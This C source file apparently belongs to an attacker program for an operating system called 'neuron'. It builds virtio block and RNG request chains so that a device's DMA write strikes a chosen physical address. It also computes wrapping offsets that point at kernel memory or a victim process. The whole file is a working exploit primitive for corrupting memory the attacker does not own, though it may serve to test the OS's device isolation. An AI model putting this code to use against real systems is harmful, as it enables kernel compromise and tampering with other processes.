/* Chains that the two devices understand (virtio 1.2, 5.2.6 and 5.4.6). */
#include "attacker.h"

#include <neuron/limits.h>
#include <neuron/table.h>

struct header {
    uint32_t type, reserved;
    uint64_t sector;
};

uint32_t request_sector(struct part *parts, uint64_t sector, bool to_disk, uint64_t offset)
{
    *(struct header *)(void *)(hand.dma + HEADER) = (struct header){to_disk ? 1 : 0, 0, sector};
    hand.dma[STATE] = UINT8_MAX;
    parts[0] = (struct part){hand.dma_slot, HEADER, sizeof(struct header), false};
    parts[1] = (struct part){hand.dma_slot, offset, SECTOR, !to_disk};
    parts[2] = (struct part){hand.dma_slot, STATE, 1, true};
    return CHAIN;
}

/* Of a disk the one byte that says how it went, so that no more than that is struck. */
uint32_t request_write(struct part *parts, uint64_t offset)
{
    if (hand.class_number == NEURON_CLASS_VIRTIO_RNG) {
        parts[0] = (struct part){hand.dma_slot, offset, STRUCK, true};
        return 1;
    }
    (void)request_sector(parts, 0, false, BUFFER);
    parts[2].offset = offset;
    return CHAIN;
}

uint64_t offset_of(enum Target target)
{
    uint64_t physical = NEURON_KERNEL_BASE;

    if (target == TARGET_VICTIM && victim_where(&physical) != 0) {
        return 0;
    }
    return physical - own_phys(); /* may wrap: the sum is what the device is told */
}
